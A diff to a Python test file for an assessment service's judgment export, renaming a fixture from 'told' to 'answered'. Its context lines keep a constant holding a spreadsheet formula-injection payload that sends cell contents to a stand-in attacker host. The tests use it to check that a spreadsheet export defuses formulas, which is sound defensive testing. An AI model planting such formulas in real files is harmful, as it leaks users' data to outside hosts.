@@ -77,8 +77,8 @@ def test_a_form_that_there_is_not_is_refused(client):
 
 
 def unjudged(small, count):
-    told = {judgment.pair for judgment in small.judgments}
-    return [pair for pair in build_pool(small).pairs if pair not in told][:count]
+    answered = {judgment.pair for judgment in small.judgments}
+    return [pair for pair in build_pool(small).pairs if pair not in answered][:count]
 
 
 def test_a_file_is_taken_in_whole_or_not_at_all(client, small):
@@ -136,7 +136,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
 
 
 @pytest.fixture(scope="module")
-def told(server, small):
+def answered(server, small):
     """Two pairs: one judged under a lease with all there is to say, and revised; one that cannot be judged."""
     with httpx.Client(base_url=server.url, timeout=30) as client:
         first, second = client.post(
@@ -157,11 +157,11 @@ def told(server, small):
     return first, second
 
 
-def test_csv_and_json_lines_carry_everything(client, told, small, folders, tmp_path):
-    first, second = told
+def test_csv_and_json_lines_carry_everything(client, answered, small, folders, tmp_path):
+    first, second = answered
     records = [json.loads(line) for line in client.get(JUDGMENTS, params={"format": "jsonl"}).text.splitlines()]
     mine = {(record["query"], record["document"]): record for record in records if record.get("assessor") == "eve"}
-    judged, refused = (mine[pair["query"], pair["document"]] for pair in told)
+    judged, refused = (mine[pair["query"], pair["document"]] for pair in answered)
     assert (judged["grade"], judged["fine"], judged["note"]) == (70, 70, HOSTILE + "\nnext line")
     heard = {name: judged[name] for name in ("seconds", "played_s", "query_played_s", "document_played_s")}
     assert heard == {"seconds": 12.5, "played_s": 30, "query_played_s": 10, "document_played_s": 20}
@@ -177,7 +177,7 @@ def test_csv_and_json_lines_carry_everything(client, told, small, folders, tmp_p
         assert [(one.document, one.grade) for one in read if one.assessor == "eve"] == [(first["document"], 70)]
 
 
-def test_a_form_for_spreadsheets_defuses_formulas_and_says_so(client, told):
+def test_a_form_for_spreadsheets_defuses_formulas_and_says_so(client, answered):
     plain = client.get(JUDGMENTS, params={"format": "csv"})
     answer = client.get(JUDGMENTS, params={"format": "spreadsheet"})
     assert answer.headers["content-disposition"].endswith('-spreadsheet.csv"')
